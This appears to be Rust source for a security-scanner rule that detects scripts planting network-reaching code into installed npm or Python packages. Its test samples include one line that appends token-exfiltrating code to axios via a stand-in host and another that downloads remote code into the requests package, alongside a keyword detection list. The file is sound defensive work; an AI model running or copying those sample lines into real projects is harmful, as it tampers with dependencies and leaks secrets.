//! `supply-dependency-patch`: code is put into packages that are installed.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command;
use crate::scan::operation::Origins;
use crate::scan::rule::{Check, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "supply-dependency-patch",
    title: "Puts code that reaches the network into an installed package",
    severity: Severity::Error,
    confidence: Confidence::High,
    why: "Every program that loads the package runs it from then on, and nobody reads installed packages.",
    fix: "Leave installed packages alone; wrap them in code of the project.",
    references: &["CWE-506", "CWE-829", "ATT&CK T1554"],
    hits: &[
        Sample::File(
            "scripts/a.js",
            "const fs = require('fs');\nfs.appendFileSync('node_modules/axios/index.js', ';require(\"https\").get(\"https://m.example.com/\" + process.env.TOKEN)');\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import urllib.request\ncode = urllib.request.urlopen('https://p.example.com/x').read()\nopen('.venv/lib/python3.12/site-packages/requests/api.py', 'ab').write(code)\n",
        ),
    ],
    misses: &[
        Sample::File(
            "scripts/a.js",
            "require('fs').writeFileSync('node_modules/.cache/a.json', '{}');\n",
        ),
        Sample::File("scripts/a.sh", "rm -rf node_modules && npm ci\n"),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    for (span, path, content) in command::writes(unit) {
        let inside = path.contains("node_modules/") && !path.contains("node_modules/.cache")
            || path.contains("site-packages/")
            || path.contains("dist-packages/");
        if !inside {
            continue;
        }
        let fetched =
            content.origins.has(Origins::NETWORK) || content.origins.has(Origins::DECODED);
        let reaches = content.text.as_deref().is_some_and(|text| {
            text.contains("://")
                || [
                    "https\")",
                    "https')",
                    "http.request",
                    "urlopen",
                    "fetch(",
                    "socket",
                ]
                .iter()
                .any(|word| text.contains(word))
        });
        if fetched || reaches {
            let raised = reporter.raise_flow(span, &content.way);
            if command::is_program(unit) {
                raised.severity(Severity::Blocker);
            }
        }
    }
}
